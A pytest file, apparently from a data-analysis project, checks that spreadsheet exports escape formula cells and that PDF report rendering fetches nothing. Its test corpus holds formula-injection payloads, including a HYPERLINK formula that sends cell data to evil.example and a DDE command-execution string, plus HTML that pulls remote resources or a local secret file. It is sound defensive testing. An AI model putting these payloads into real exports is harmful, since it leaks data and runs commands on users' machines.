"""Bar 24: no export runs anything in a spreadsheet, tells when it was made, or fetches anything."""

from __future__ import annotations

import ast
import csv
import io
import re
import threading
import zipfile
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
import xlsxwriter
from hypothesis import given
from hypothesis import strategies as st

from analysis.export import ods, xlsx
from analysis.export.sheets import Sheet, Workbook
from analysis.release.write import safe
from analysis.report import document

ROOT = Path(__file__).resolve().parents[2]
FORMULAS = [
    '=HYPERLINK("http://evil.example?x="&A1,"open")',
    "=1+1",
    "+44 20 7946 0000",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    '=IMPORTXML(CONCAT("http://evil.example"),"//a")',
]


@pytest.mark.parametrize("cell", FORMULAS)
def test_no_cell_begins_as_a_formula(cell: str) -> None:
    assert safe(cell) == f"'{cell}"


@given(st.text(max_size=40))
def test_whatever_is_written_no_cell_of_the_file_begins_as_a_formula(words: str) -> None:
    out = io.StringIO(newline="")
    csv.writer(out, lineterminator="\r\n").writerow([safe(words), safe(words)])
    (row,) = csv.reader(io.StringIO(out.getvalue(), newline=""))
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n")) for cell in row)
    assert all(cell in (words, f"'{words}") for cell in row)


def _writers(folder: Path) -> list[tuple[str, bool]]:
    """Every module that writes CSV, and whether it makes its cells safe."""
    found = []
    for path in sorted(folder.rglob("*.py")):
        tree = ast.parse(path.read_text(encoding="utf-8"))
        names = {node.id for node in ast.walk(tree) if isinstance(node, ast.Name)}
        calls = {ast.unparse(node.func) for node in ast.walk(tree) if isinstance(node, ast.Call)}
        if {"csv.writer", "csv.DictWriter"} & calls:
            found.append((path.name, any(name.lstrip("_").startswith("safe") for name in names)))
    return found


def test_every_module_that_writes_csv_makes_its_cells_safe() -> None:
    found = [*_writers(ROOT / "survey"), *_writers(ROOT / "analysis")]
    assert found
    assert [name for name, careful in found if not careful] == []


def test_a_module_that_writes_csv_carelessly_is_caught(tmp_path: Path) -> None:
    (tmp_path / "careless.py").write_text("import csv\ncsv.writer(open('x', 'w')).writerow(['=1'])")
    assert _writers(tmp_path) == [("careless.py", False)]


def _spreadsheet(folder: Path, ending: str) -> Path:
    """A file of ours whose every cell is of the corpus."""
    folder.mkdir(exist_ok=True)
    header = tuple(f"{cell} {number}" for number, cell in enumerate(FORMULAS[:2]))
    sheet = Sheet("a", FORMULAS[0], FORMULAS, header, [(cell, cell) for cell in FORMULAS])
    made = Workbook(FORMULAS[0], FORMULAS[1], "en", "2026-12-01", (sheet,))
    target = folder / f"x.{ending}"
    {"xlsx": xlsx, "ods": ods}[ending].write(made, target)
    return target


def _active(file: Path) -> list[str]:
    """Formulas, and links to anywhere outside, in a spreadsheet's parts."""
    with zipfile.ZipFile(file) as archive:
        parts = [archive.read(name).decode("utf-8", "replace") for name in archive.namelist()]
    return [found for part in parts for found in ACTIVE.findall(part)]


ACTIVE = re.compile(r'<f[ >]|table:formula|TargetMode="External"|xlink:href="(?!#)[^"]*"')


@pytest.mark.parametrize("ending", ["xlsx", "ods"])
def test_no_cell_of_a_spreadsheet_is_a_formula_or_leads_outside(
    tmp_path: Path, ending: str
) -> None:
    assert _active(_spreadsheet(tmp_path, ending)) == []


@pytest.mark.parametrize("ending", ["xlsx", "ods"])
def test_the_same_spreadsheet_has_the_same_bytes(tmp_path: Path, ending: str) -> None:
    one, other = (_spreadsheet(tmp_path / name, ending).read_bytes() for name in "ab")
    assert one == other


def test_a_library_left_to_itself_is_caught(tmp_path: Path) -> None:
    book = xlsxwriter.Workbook(tmp_path / "careless.xlsx")
    page = book.add_worksheet()
    for number, cell in enumerate((*FORMULAS, "https://evil.example/")):
        page.write(number, 0, cell)
    book.close()
    assert len(_active(tmp_path / "careless.xlsx")) >= 3


@pytest.fixture
def listener() -> Iterator[tuple[str, list[str]]]:
    """A server that notes what is fetched from it."""
    fetched: list[str] = []

    class Note(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            fetched.append(self.path)
            self.send_error(404)

        def log_message(self, format: str, *args: object) -> None:  # noqa: A002 - its own name
            """Quiet."""

    server = ThreadingHTTPServer(("127.0.0.1", 0), Note)
    thread = threading.Thread(target=server.serve_forever)
    thread.start()
    yield f"http://127.0.0.1:{server.server_port}", fetched
    server.shutdown()
    thread.join()
    server.server_close()


def _hostile(address: str, secret: Path) -> list[str]:
    """Pages that would fetch something; a report is made of words that people wrote."""
    page = '<!doctype html><html lang="en"><head><title>x</title>{0}</head><body>{1}</body></html>'
    return [
        page.format("", f'<p>a</p><img src="{address}/image" alt="x">'),
        page.format(f'<link rel="stylesheet" href="{address}/style">', "<p>a</p>"),
        page.format(f"<style>@import url({address}/import);</style>", "<p>a</p>"),
        page.format(f"<style>p {{ background: url({address}/back) }}</style>", "<p>a</p>"),
        page.format(f'<link rel="attachment" href="file://{secret}">', "<p>a</p>"),
        page.format("", f'<object data="{address}/object"></object>'),
    ]


def test_a_report_fetches_nothing_from_the_network_or_the_disk(
    listener: tuple[str, list[str]], tmp_path: Path
) -> None:
    address, fetched = listener
    secret = tmp_path / "secret.txt"
    secret.write_text("CANARYWORDS")
    for html in _hostile(address, secret):
        try:
            made = document.render(html, "x")
        except document.OutsideError:
            continue  # a report that asks for something is not made at all
        assert b"CANARYWORDS" not in made
    assert fetched == []


def test_a_careless_renderer_is_caught(listener: tuple[str, list[str]], tmp_path: Path) -> None:
    import weasyprint

    address, fetched = listener
    for html in _hostile(address, tmp_path / "x")[:1]:
        weasyprint.HTML(string=html).write_pdf()
    assert fetched == ["/image"]


def test_the_same_report_has_the_same_bytes_and_no_date() -> None:
    html = (
        '<!doctype html><html lang="en"><head><title>x</title></head><body><p>a</p></body></html>'
    )
    one, other = document.render(html, "x"), document.render(html, "x")
    assert one == other
    assert b"/CreationDate" not in one
    assert b"/ModDate" not in one
